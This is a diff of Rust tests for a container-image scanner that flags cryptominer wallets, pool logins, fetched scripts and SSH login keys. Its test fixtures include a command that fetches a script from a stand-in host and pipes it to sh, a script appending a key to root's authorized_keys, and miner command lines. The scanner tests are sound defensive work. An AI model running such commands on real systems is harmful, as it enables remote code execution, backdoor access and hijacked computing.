@@ -4,7 +4,9 @@
 use std::sync::LazyLock;
 
 use lazaret_detect::{Judgement, LayerInput, Pack, judge, try_recipe};
-use lazaret_model::{ContentId, EntryPath, Fact, FactKind, ImageReport, IndicatorKind, LayerFacts, Location};
+use lazaret_model::{
+    ContentId, EntryPath, Fact, FactKind, ImageReport, IndicatorKind, LayerFacts, Location, Role,
+};
 use lazaret_recipe::Recipe;
 
 static PACK: LazyLock<Pack> = LazyLock::new(|| Pack::load(&[], None).unwrap());
@@ -14,9 +16,12 @@ fn judged(text: &str) -> ImageReport {
     try_recipe(&PACK, &recipe)
 }
 
-/// Values of one kind, with their places.
+/// Values of one kind, with their places, but for those that are only spoken of.
 fn seen(report: &ImageReport, kind: IndicatorKind) -> Vec<(String, String)> {
-    let of_kind = report.sightings.iter().filter(|sighting| sighting.indicator.kind == kind);
+    let of_kind = report
+        .sightings
+        .iter()
+        .filter(|sighting| sighting.indicator.kind == kind && sighting.role > Role::Mentioned);
     of_kind.map(|s| (s.indicator.value.clone(), s.location.to_string())).collect()
 }
 
@@ -60,6 +65,109 @@ fn wallets_and_keys_are_seen_in_files_of_nobody_and_in_removed_ones() {
 }
 
 #[test]
+fn the_wallet_in_a_manual_is_its_authors_and_one_that_acts_counts_wherever_it_stands() {
+    let coin = wallet(1);
+    for path in ["/opt/miner/README.md", "/opt/miner/README", "/usr/share/doc/miner/x", "/srv/DONATIONS.txt"]
+    {
+        let text = format!("FILE {path}\n    Donations are welcome: {coin}\n");
+        assert_eq!(values(&text, IndicatorKind::Wallet), Vec::<String>::new(), "{path}");
+    }
+    let acts = format!(
+        "ELF /bin/m 0755\n    m\nFILE /README.md 0755\n    #!/bin/sh\n    /bin/m -o pool.example.test:3333 -u {coin}\n\
+         CMD [\"/README.md\"]\n"
+    );
+    assert_eq!(values(&acts, IndicatorKind::Wallet), [format!("xmr:{coin}")]);
+}
+
+#[test]
+fn a_wallet_in_a_manual_a_comment_a_message_or_a_sample_is_spoken_of_and_still_held() {
+    let coin = wallet(4);
+    for text in [
+        format!("FILE /opt/miner/README.md\n    Donations are welcome: {coin}\n"),
+        format!("FILE /opt/config.example.json\n    {{\"user\": \"{coin}\"}}\n"),
+        format!("FILE /var/www/html/donate.html\n    <p>Donate <b>{coin}</b></p>\n"),
+        format!(
+            "FILE /opt/setup.sh 0755\n    #!/bin/sh\n    # Usage: setup.sh WALLET, e.g. {coin}\n    W=$1\n"
+        ),
+        format!(
+            "FILE /opt/setup.sh 0755\n    #!/bin/sh\n    if [ -z \"$1\" ]; then echo \"ERROR: e.g. {coin}\"; exit 1; fi\n"
+        ),
+    ] {
+        let report = judged(&text);
+        let held: Vec<_> =
+            report.sightings.iter().filter(|s| s.indicator.kind == IndicatorKind::Wallet).collect();
+        assert_eq!(held.len(), 1, "{text}");
+        assert_eq!(held[0].role, Role::Mentioned, "{text}");
+    }
+    let uses =
+        format!("FILE /opt/config.json\n    {{\"user\": \"{coin}\"}}\nFILE /opt/README.md\n    {coin}\n");
+    assert_eq!(
+        seen(&judged(&uses), IndicatorKind::Wallet),
+        [(format!("xmr:{coin}"), "/opt/config.json:1".to_owned())]
+    );
+}
+
+#[test]
+fn what_a_finding_names_is_seen_with_what_it_says() {
+    let coin = wallet(5);
+    let text = format!(
+        "ELF /opt/m 0755\n    XMRig\nFILE /go.sh 0755\n    #!/bin/sh\n    exec /opt/m -o stratum+tcp://pool.example.test:3333 -u {coin} -p x\n\
+         CMD [\"/go.sh\"]\n"
+    );
+    let report = judged(&text);
+    let role = report.sightings.iter().find(|s| s.indicator.kind == IndicatorKind::Wallet).unwrap().role;
+    assert_eq!(role, Role::Harms);
+}
+
+#[test]
+fn an_address_that_is_fetched_and_run_has_what_the_finding_says_and_one_that_is_only_fetched_has_not() {
+    let text = "ELF /opt/m 0755\n    XMRig\nFILE /go.sh 0755\n    #!/bin/sh\n    curl -s http://drop.actor.example.test/a.sh | sh\n    \
+        curl -fsSL https://get.vendor.example.test/x -o /tmp/x\nCMD [\"/go.sh\"]\n";
+    let report = judged(text);
+    let role = |value: &str| report.sightings.iter().find(|s| s.indicator.value == value).unwrap().role;
+    assert!(role("http://drop.actor.example.test/a.sh") >= Role::Suspected);
+    assert!(role("https://get.vendor.example.test/x") < Role::Suspected);
+}
+
+#[test]
+fn keys_of_machines_are_no_login_keys() {
+    let key = key(9);
+    for text in [
+        format!("FILE /root/.ssh/known_hosts\n    code.example.test {key}\n"),
+        format!("FILE /root/.ssh/known_hosts\n    gitserver {key}\n"),
+        format!("FILE /etc/ssh/ssh_host_ed25519_key.pub\n    {key} root@somewhere\n"),
+        format!(
+            "FILE /a.sh 0755\n    #!/bin/sh\n    echo \"code.example.test {key}\" >> /root/.ssh/known_hosts\nCMD [\"/a.sh\"]\n"
+        ),
+    ] {
+        assert_eq!(values(&text, IndicatorKind::SshKey), Vec::<String>::new(), "{text}");
+    }
+    for text in [
+        format!("FILE /root/.ssh/authorized_keys\n    {key} me\n"),
+        format!("FILE /root/.ssh/authorized_keys\n    no-pty,command=\"/bin/x.sh\" {key}\n"),
+        format!(
+            "FILE /a.sh 0755\n    #!/bin/sh\n    echo {key} >> /root/.ssh/authorized_keys\nCMD [\"/a.sh\"]\n"
+        ),
+    ] {
+        assert_eq!(values(&text, IndicatorKind::SshKey), std::slice::from_ref(&key), "{text}");
+    }
+}
+
+#[test]
+fn an_address_of_ethereum_at_a_pool_is_one_wallet_however_it_is_written() {
+    let lower = "0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed";
+    let checked = "eth:0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed";
+    for login in
+        [lower.to_owned(), format!("{lower}.r1"), format!("ETH:{lower}.r2#x"), checked[4..].to_owned()]
+    {
+        let text = format!(
+            "ELF /bin/m 0755\n    m\nCMD [\"/bin/m\", \"-o\", \"stratum+tcp://pool.example.test:3333\", \"-u\", \"{login}\"]\n"
+        );
+        assert_eq!(values(&text, IndicatorKind::Wallet), [checked], "{login}");
+    }
+}
+
+#[test]
 fn what_a_package_brought_ties_nobody() {
     let coin = wallet(2);
     let packaged = format!("{DEBIAN}FILE /usr/share/tool/notes\n    {coin}\n");
@@ -88,7 +196,7 @@ fn pools_and_logins_stand_in_the_configuration_too() {
     let pools = seen(&report, IndicatorKind::Pool);
     assert_eq!(pools[0].0, "stratum+tcp://pool.example.test:3333");
     assert!(pools[0].1.starts_with("history step"), "{pools:?}");
-    assert_eq!(values(text, IndicatorKind::PoolLogin), ["somebody.rig"]);
+    assert_eq!(values(text, IndicatorKind::PoolLogin), ["somebody"]);
 }
 
 #[test]
@@ -257,7 +365,7 @@ fn there_are_never_more_than_a_thousand_of_bounded_length_sorted_and_each_once()
 #[test]
 fn a_login_at_a_pool_is_seen_on_a_command_line_and_that_of_another_tool_is_not() {
     let text = "ELF /bin/m 0755\n    m\nCMD [\"/bin/m\", \"-o\", \"pool.example.test:3333\", \"--user=someone.rig1\"]\n";
-    assert_eq!(values(text, IndicatorKind::PoolLogin), ["someone.rig1"]);
+    assert_eq!(values(text, IndicatorKind::PoolLogin), ["someone"]);
     let other = "ELF /bin/curl 0755\n    c\nCMD [\"/bin/curl\", \"-o\", \"/out\", \"-u\", \"someone\", \"http://a.example.test/\"]\n";
     assert_eq!(values(other, IndicatorKind::PoolLogin), Vec::<String>::new());
     let coin = format!(
